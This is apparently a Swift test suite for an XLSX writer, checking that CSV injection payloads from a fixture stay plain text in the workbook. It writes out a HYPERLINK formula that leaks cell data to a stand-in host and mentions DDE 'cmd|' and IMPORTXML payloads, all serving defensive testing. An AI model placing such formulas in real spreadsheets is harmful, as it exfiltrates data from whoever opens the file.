import Columnar
import Foundation
import Testing

@testable import XLSX

/// Spreadsheet formula injection: cell text from an input file that starts with `=`, `+`, `-`
/// or `@` must reach the workbook as text, never as a formula. Fixtures/hostile.csv holds the
/// classic payloads (OWASP "CSV Injection": HYPERLINK exfiltration, DDE `cmd|`, IMPORTXML),
/// read with Columnar's CSV reader as the report writer would.
///
/// The text is checked three ways: in the sheet's XML (no `<f>` element, string cells only),
/// with openpyxl loading formulas rather than values (every cell is type "s" and reads back as
/// the input), and with LibreOffice, which would show a computed value for a formula.
@Suite struct InjectionTests {
  /// The text cells of the fixture, row by row (the `name` and `comment` columns).
  static func hostileCells() throws -> [[String]] {
    let path = testsFolder.appendingPathComponent("Fixtures/hostile.csv").path
    var options = CSVReadOptions()
    options.columnTypes = ["name": .text, "comment": .text]
    options.missingTokens = []  // "-" is a payload here, not a missing value
    let table = try CSVReader.read(path: path, options: options).table
    let columns = [try table.column("name"), try table.column("comment")]
    return (0..<table.rowCount).map { row in
      columns.map { column in
        if case .text(let text) = column[row] { return text }
        return column[row].description
      }
    }
  }

  /// Writes the fixture (id as a number, the two text columns as text) and one formula the
  /// program wrote itself, as a control that a real formula is seen as one.
  static func writeHostile(to path: String, constantMemory: Bool) throws -> [[String]] {
    let rows = try hostileCells()
    let workbook = try Workbook(path: path, options: WorkbookOptions(constantMemory: constantMemory), sourceDateEpoch: nil)
    let sheet = try workbook.addWorksheet("Input")
    try sheet.write("id", row: 0, column: 0)
    try sheet.write("name", row: 0, column: 1)
    try sheet.write("comment", row: 0, column: 2)
    for (i, row) in rows.enumerated() {
      try sheet.write(i + 1, row: i + 1, column: 0)
      for (j, text) in row.enumerated() { try sheet.write(text, row: i + 1, column: j + 1) }
    }
    try sheet.write(Formula("=A2+A3"), result: 3, row: rows.count + 1, column: 0)
    try workbook.close()
    return rows
  }

  @Test func theFixtureHoldsHostileText() throws {
    let rows = try Self.hostileCells()
    #expect(rows.count == 8)
    // Every row has at least one cell starting with a formula trigger.
    #expect(rows.allSatisfy { $0.contains { ["=", "+", "-", "@", "\t", "_"].contains($0.first.map(String.init) ?? "") } })
    #expect(rows[0][0] == "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click here\")")
  }

  @Test(arguments: [false, true])
  func hostileTextStaysTextInTheXML(constantMemory: Bool) throws {
    let dir = try TemporaryDirectory()
    defer { dir.remove() }
    let path = dir.file("hostile.xlsx")
    let rows = try Self.writeHostile(to: path, constantMemory: constantMemory)
    let sheet = try unzipPart(path, "xl/worksheets/sheet1.xml")
    // Exactly one formula: the control written with Formula.
    #expect(sheet.components(separatedBy: "<f>").count - 1 == 1)
    #expect(sheet.contains("<f>A2+A3</f><v>3</v>"))
    // A literal _x003D_ is protected as _x005F_x003D_, as XlsxWriter does (3.0.2 writes
    // `_x005F_x0041_` for `_x0041_`, in shared and inline strings alike), so Excel does not
    // decode it to "=".
    let escaped = "_x005F_x003D_1+1"
    if constantMemory {
      #expect(sheet.contains("<t>\(escaped)</t>"))
    } else {
      #expect(try unzipPart(path, "xl/sharedStrings.xml").contains("<t>\(escaped)</t>"))
    }
    let stringType = constantMemory ? "t=\"inlineStr\"" : "t=\"s\""
    for (i, row) in rows.enumerated() {
      for j in row.indices {
        let cell = CellRange.cellName(row: i + 1, column: j + 1)
        #expect(sheet.contains("<c r=\"\(cell)\" \(stringType)>"), "\(cell) is not a string cell")
      }
    }
  }

  @Test(
    .enabled(if: Tools.openpyxlPython != nil, "openpyxl (python3-openpyxl) is not installed; skipped"),
    arguments: [false, true])
  func openpyxlReadsHostileTextAsText(constantMemory: Bool) throws {
    let dir = try TemporaryDirectory()
    defer { dir.remove() }
    let path = dir.file("hostile.xlsx")
    let rows = try Self.writeHostile(to: path, constantMemory: constantMemory)
    let cells = try #require(try Openpyxl.read([path], formulas: true)[path]?["Input"])
    for (i, row) in rows.enumerated() {
      for (j, text) in row.enumerated() {
        let cell = CellRange.cellName(row: i + 1, column: j + 1)
        #expect(cells[cell]?.first as? String == "s", "\(cell) is not text: \(String(describing: cells[cell]))")
        // openpyxl 3.0.9 decodes Excel's _xHHHH_ escapes in shared strings but not in inline
        // strings (constant-memory mode), so there it shows the escape of the one escape-like
        // payload undecoded; LibreOffice decodes both (libreOfficeShowsHostileTextVerbatim).
        let shown = constantMemory ? text.replacingOccurrences(of: "_x003D_", with: "_x005F_x003D_") : text
        #expect(cells[cell]?.last as? String == shown, "\(cell) reads \(String(describing: cells[cell]))")
      }
    }
    // The control: openpyxl does see a formula where the program wrote one.
    let control = CellRange.cellName(row: rows.count + 1, column: 0)
    #expect(cells[control]?.first as? String == "f")
  }

  @Test(.enabled(if: Tools.soffice != nil, "LibreOffice (soffice) is not installed; skipped"))
  func libreOfficeShowsHostileTextVerbatim() throws {
    let dir = try TemporaryDirectory()
    defer { dir.remove() }
    var expected: [String: [[String]]] = [:]
    var paths: [String] = []
    for constantMemory in [false, true] {
      let name = constantMemory ? "hostile-constant" : "hostile"
      paths.append(dir.file("\(name).xlsx"))
      expected[name] = try Self.writeHostile(to: dir.file("\(name).xlsx"), constantMemory: constantMemory)
    }
    let sheets = try LibreOffice.csvSheets(of: paths, in: dir)
    for (name, rows) in expected {
      let shown = try #require(sheets["\(name)-Input"], "no CSV for \(name)")
      for (i, row) in rows.enumerated() {
        for (j, text) in row.enumerated() {
          let cell = CellRange.cellName(row: i + 1, column: j + 1)
          #expect(LibreOffice.field(shown, cell) == text, "\(name) \(cell)")
        }
      }
      // The control formula is evaluated: A2 + A3 = 1 + 2 = 3.
      #expect(LibreOffice.field(shown, CellRange.cellName(row: rows.count + 1, column: 0)) == "3")
    }
  }
}
